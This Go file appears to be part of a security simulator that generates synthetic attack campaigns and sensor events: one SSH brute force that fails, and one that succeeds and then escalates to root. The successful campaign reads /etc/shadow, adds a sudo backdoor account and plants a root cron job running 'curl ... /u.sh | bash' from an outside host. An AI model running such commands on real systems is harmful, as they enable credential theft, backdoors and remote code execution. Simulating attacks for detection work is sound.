package simulate

import "fmt"

var _ = campaign(Campaign{
	Name:  "ssh-brute-force-fails",
	Title: "An SSH password is guessed at for a while, in vain",
	Run: func(k *attack) {
		h := k.w.bastion
		k.host(h)
		k.tells(h.name + "/auth")
		k.guessSSH(h, k.guesses(int(k.between(60, 220))))
	},
})

var _ = campaign(Campaign{
	Name:  "ssh-brute-force-succeeds",
	Title: "An SSH password is guessed; the intruder becomes root, adds an account and a cron job",
	Run: func(k *attack) {
		w, h := k.w, k.w.web
		victim := "deploy"
		h.accounts[victim] = 1000
		k.host(h)
		k.user(victim)
		k.tells(h.name + "/auth")
		users := k.guesses(int(k.between(50, 180)))
		for i := len(users) - int(k.between(8, 20)); i < len(users); i++ {
			users[i] = victim
		}
		k.guessSSH(h, users)

		k.step("T1078", "login", "logs in as %s with the guessed password", victim)
		from := k.source()
		c := h.sshConnect(k.actor, from)
		s := c.accept(victim, "")
		k.succeeds()
		k.fact("access", victim, "a session as %s on %s from %s", victim, h.name, from)
		k.pause(20*second, 3*minute)

		k.step("T1548.003", "root", "becomes root with sudo")
		s.sudo("/usr/bin/id", nil)
		k.pause(5*second, 40*second)
		s.sudo("/usr/bin/cat /etc/shadow", nil)
		k.fact("privilege", "root", "%s ran commands as root on %s", victim, h.name)
		k.pause(30*second, 3*minute)

		k.step("T1136.001", "account", "adds an account of its own")
		account := pick(&k.rng, []string{"sysbackup", "support", "nagiosadm", "svc-update", "dbmaint"})
		k.user(account)
		s.sudo("/usr/sbin/useradd -m -s /bin/bash "+account, func() { h.addUser(k.actor, account, s.tty) })
		k.pause(5*second, 30*second)
		s.sudo("/usr/sbin/chpasswd", func() { h.setPassword(k.actor, account) })
		k.fact("account-created", account, "the account %s on %s", account, h.name)
		k.step("T1098.007", "group", "puts it into the group sudo")
		k.pause(3*second, 20*second)
		s.sudo("/usr/sbin/usermod -aG sudo "+account, func() { h.addToGroup(k.actor, account, "sudo") })
		k.fact("privilege", account, "%s may use sudo", account)
		k.pause(20*second, 2*minute)

		k.step("T1053.003", "cron", "leaves a cron job that fetches a script every ten minutes")
		drop := w.stranger()
		command := fmt.Sprintf("curl -fsSL http://%s/u.sh | bash", drop)
		s.sudo("/usr/bin/crontab -", func() { h.replaceCrontab(k.actor, "root") })
		k.fact("persistence", "crontab of root", "a cron job of root on %s", h.name)
		add(&k.truth.Sources, drop)
		mark, start := k.mark, w.now
		w.spawn("cron of "+k.truth.ID, (start/(10*minute)+1)*10*minute, func(a *actor) {
			a.mark = mark
			for at := (start/(10*minute) + 1) * 10 * minute; at < start+3*hour; at += 10 * minute {
				a.until(at + second + a.between(0, 40*msec))
				f := w.sensor.open(a, "TCP", h.address, clientPort(a), drop, 80)
				h.job(a, "root", command, 300*msec)
				w.sensor.http(a, &f, &webRequest{host: drop, method: "GET", url: "/u.sh", agent: "curl/7.88.1", status: 200, length: 1843, mime: "text/x-sh"})
				w.sensor.close(a, &f)
			}
		})
		k.pause(minute, 6*minute)
		s.exit()

		if k.rng.chance(500) {
			k.pause(hour, 2*hour)
			k.step("T1078.003", "return", "comes back with its own account")
			c := h.sshConnect(k.actor, k.source())
			s := c.accept(account, "")
			k.pause(2*minute, 12*minute)
			s.exit()
		}
	},
})

// guesses is a list of users to try.
func (k *attack) guesses(n int) []string {
	users := make([]string, n)
	for i := range users {
		users[i] = "root"
		if k.rng.chance(600) {
			users[i] = pick(&k.rng, botUsers)
		}
	}
	return users
}

// guessSSH tries one password for each of the users, a few on each connection
// as hydra does, several connections at a time.
func (k *attack) guessSSH(h *host, users []string) {
	k.step("T1110.001", "guess", "guesses passwords on %s", h.name)
	perConnection := 1
	if k.rng.chance(400) {
		perConnection = int(k.between(3, 7)) // of one user, until MaxAuthTries
	}
	clean := k.rng.chance(500)
	var threads int
	alerted := 0
	for i := 0; i < len(users); {
		user, from := users[i], k.source()
		n := min(perConnection, len(users)-i)
		i += n
		threads++
		m := k.mark
		k.w.spawn(fmt.Sprint(k.truth.ID, " thread ", i), k.w.now, func(a *actor) {
			a.mark = m
			c := h.sshConnect(a, from)
			if alerted++; alerted%10 == 5 { // the rule wants five SYNs in two minutes
				k.w.sensor.alert(a, &c.flow, &etSSHScan, nil)
			}
			for range n {
				c.fail(user)
			}
			if c.failed >= 6 {
				c.tooMany()
			} else {
				c.giveUp(clean)
			}
			threads--
		})
		k.lull(300*msec, 2*second)
		for threads >= 4 {
			k.pause(200*msec, 500*msec)
		}
	}
	for threads > 0 {
		k.pause(300*msec, second)
	}
}
